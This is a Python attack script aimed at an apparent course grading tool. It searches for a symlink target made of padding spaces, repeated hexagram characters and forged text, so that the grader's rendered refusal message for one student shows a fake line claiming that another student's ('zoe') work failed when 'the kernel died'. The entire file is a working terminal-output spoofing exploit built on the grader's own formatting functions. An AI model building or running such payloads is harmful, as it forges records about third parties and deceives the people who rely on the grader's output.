import sys; sys.path.insert(0, (__import__("os").environ.get("ATTACK_USER_CLONE") or __import__("os").path.abspath(__import__("os").path.join(__import__("os").path.dirname(__import__("os").path.abspath(__file__)), "..", "..", "..", "..")))); sys.path.insert(0, __import__("os").path.dirname(__import__("os").path.abspath(__file__)))
from grader.grade import for_terminal
from render import draw
MARK = 24
HEX = "\u4dc0"
def design(prefix_fn, fake, maxlen=4000):
    for s in range(0, 80):
        for H in range(1, 80):
            target = " " * s + HEX * H + fake
            text = for_terminal(prefix_fn(target))
            rows = draw(text)
            if any(r.startswith(fake[:MARK]) for r in rows):
                return target, text, rows
    return None
if __name__ == "__main__":
    FAKE = "  ps1_memory/zoe: failed: the kernel died while a cell ran"
    pre = lambda t: (f"  ps1_memory/mallory: refused: submitted/mallory/ps1_memory/notes is a symbolic link (to {t!r}): a hand-in may "
                "hold only plain files and folders (no links, pipes, sockets or devices). Replace each by a "
                "copy of the file itself, or remove it, and grade again")
    r = design(pre, FAKE)
    print(repr(r[0])); print(r[1]); print("---- drawn:"); print("\n".join(r[2]))
